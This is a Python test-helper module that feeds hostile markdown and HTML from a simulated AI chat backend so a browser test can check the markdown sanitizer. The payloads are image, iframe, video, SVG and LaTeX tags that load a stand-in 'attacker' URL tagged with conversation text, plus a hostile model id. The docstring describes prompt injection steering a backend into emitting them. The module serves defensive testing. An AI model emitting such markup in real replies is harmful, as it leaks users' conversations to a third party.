"""Hostile content for the simulators: remote images and markdown tricks in every field a backend fills.

A real backend (or a prompt injection in a page it read) can answer with ``![x](https://attacker/?q=...)``
and the browser would fetch it at once, taking the conversation with it. These payloads point at an
"attacker" URL of the test's choosing (a loopback server on another host), so a browser test can draw
them and prove that nothing reached it. Every trick markup/safe_markdown.py handles is in here.

Usage::

    sim = OpenAICompatSimulator(models=hostile_models(attacker))
    script_hostile(sim.script, attacker)        # answer, reasoning; .error_after for the error text

Standalone: ``python -m simulators.openai_compat --no-auth --hostile http://127.0.0.2:9999``.
"""

from __future__ import annotations

from urllib.parse import urlsplit

from simulators.common import BaseScript


def leak(attacker: str, where: str) -> str:
    """The URL an exfiltrating image would load: the attacker's, naming the field it came from."""
    return f"{attacker.rstrip('/')}/{where}?q=conversation-text"


def hostile_markdown(attacker: str, where: str) -> str:
    """Multi-line markdown with every way of loading a remote resource that Streamlit's markdown might draw."""
    url = leak(attacker, where)
    return (
        f"{where}: inline ![inline image]({url}) and titled ![t]({url} \"title\") and angled ![a](<{url}>).\n\n"
        f"Reference ![ref image][r] and shortcut ![r] and a linked [![nested]({url})](https://example.org/).\n\n"
        f'HTML <img src="{url}"> <picture><source srcset="{url}"><img src="{url}"></picture> '
        f'<video src="{url}" autoplay></video> <audio src="{url}" autoplay></audio> '
        f'<iframe src="{url}"></iframe> <link rel="stylesheet" href="{url}"> '
        f'<svg><image href="{url}"/></svg> <object data="{url}"></object> <embed src="{url}">\n\n'
        f"Autolink <{url}.png> and math $\\includegraphics{{{url}}}$ and $\\href{{{url}}}{{x}}$ "
        f"and :material/home: :red[colour] **bold**.\n\n"
        f"[r]: {url}\n"
    )


def hostile_line(attacker: str, where: str) -> str:
    """One line for a name, title, caption or file name: markdown that would load a remote image."""
    url = leak(attacker, where)
    return f"{where} ![x]({url}) <img src=\"{url}\"> :material/warning: $x$ **b**"


def stream_chunks(text: str, size: int = 7) -> list[str]:
    """``text`` in small pieces, so images and tags arrive split across chunks as a live reply draws them."""
    return [text[i:i + size] for i in range(0, len(text), size)]


def hostile_model_id(attacker: str) -> str:
    """A model id that is markdown for a remote image (no ":" in it, which model ids use for routing)."""
    host = urlsplit(attacker).hostname or "attacker.invalid"
    return f"evil/![model](//{host}/model-name.png)"


def script_hostile(script: BaseScript, attacker: str) -> None:
    """Script an answer and reasoning of hostile markdown, in small chunks; the error text is hostile too
    (set ``script.error_after`` to have the stream fail with it)."""
    script.chunks = stream_chunks(hostile_markdown(attacker, "answer"))
    script.thinking = hostile_markdown(attacker, "reasoning")
    script.error_text = hostile_line(attacker, "error") + " " + hostile_markdown(attacker, "error-text")
